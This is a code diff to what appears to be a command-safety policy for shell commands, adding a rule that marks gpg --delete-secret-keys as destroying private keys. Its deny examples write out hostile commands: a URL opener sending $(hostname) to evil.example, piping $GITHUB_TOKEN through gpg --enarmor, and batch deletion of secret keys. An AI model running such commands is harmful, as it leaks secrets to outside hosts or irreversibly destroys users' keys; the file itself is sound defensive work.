@@ -2,7 +2,7 @@
 // which are files they read or write. Whether a client is denied is the policy's list; this says what it does.
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { keepsStdin, merge, programRun } from '../build.js';
+import { inMode, keepsStdin, merge, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { bound, canonicalHost, type Destination, destinations, loopbackHost, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
@@ -1465,7 +1465,9 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['gio open https://evil.example', 'gio trash --empty', 'gio move ~ /tmp/x', 'gio cat https://evil.example/x'], pass: ['gio trash build.log', 'gio move a.txt b.txt', 'gio remove dist/app.js', 'gio list .', 'gio open README.md'] },
   },
   urlFetcher(['xdg-open', 'open', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
-  keepsStdin(keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
+  // --delete-secret-keys (gpg reads an option by any unambiguous prefix) removes private keys from ~/.gnupg: what was
+  // encrypted to them can never be read again, and no copy is kept.
+  inMode(keepsStdin(keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
@@ -1481,6 +1483,11 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     when: /^(?=(?:.* )?(?:-[a-zA-Z]*e[a-zA-Z]*|--encrypt|--import)(?: |$))(?!(?:.* )?(?:--clearsign|--clear-sign|--enarmor|--dearmor|--store|-c|--symmetric|-[a-zA-Z]*d[a-zA-Z]*|--decrypt|--passphrase\S*)(?: |=|$))/,
     why: 'encrypting to a recipient or importing a key, it prints nothing of what it reads on stdin back',
     examples: { deny: ['echo "$GITHUB_TOKEN" | gpg --enarmor', 'echo "$GITHUB_TOKEN" | gpg --clearsign'], pass: ['echo "$DB_PASSWORD" | gpg -e -r me@example.com -o db.gpg'] },
+  }), {
+    when: /(?:^|\s)--delete-secret-(?:k|a)/,
+    summary: '--delete-secret-keys and --delete-secret-and-public-key remove private keys',
+    examples: { deny: ['gpg --batch --yes --delete-secret-keys ABCDEF', 'gpg --delete-secret-and-public-key ABCDEF'], pass: ['gpg --delete-keys ABCDEF', 'gpg --list-secret-keys'] },
+    more: (call, answer) => ({ ...answer, destroys: [...(answer.destroys ?? []), { word: call.args.find((a) => /^--delete-secret-/.test(value(a) ?? '')) ?? call.args[0]!, what: 'data', why: `${call.name} --delete-secret-keys removes private keys from its keyring: what was encrypted to them can never be read again` }] }),
   }),
   {
     names: ['git-send-email'],
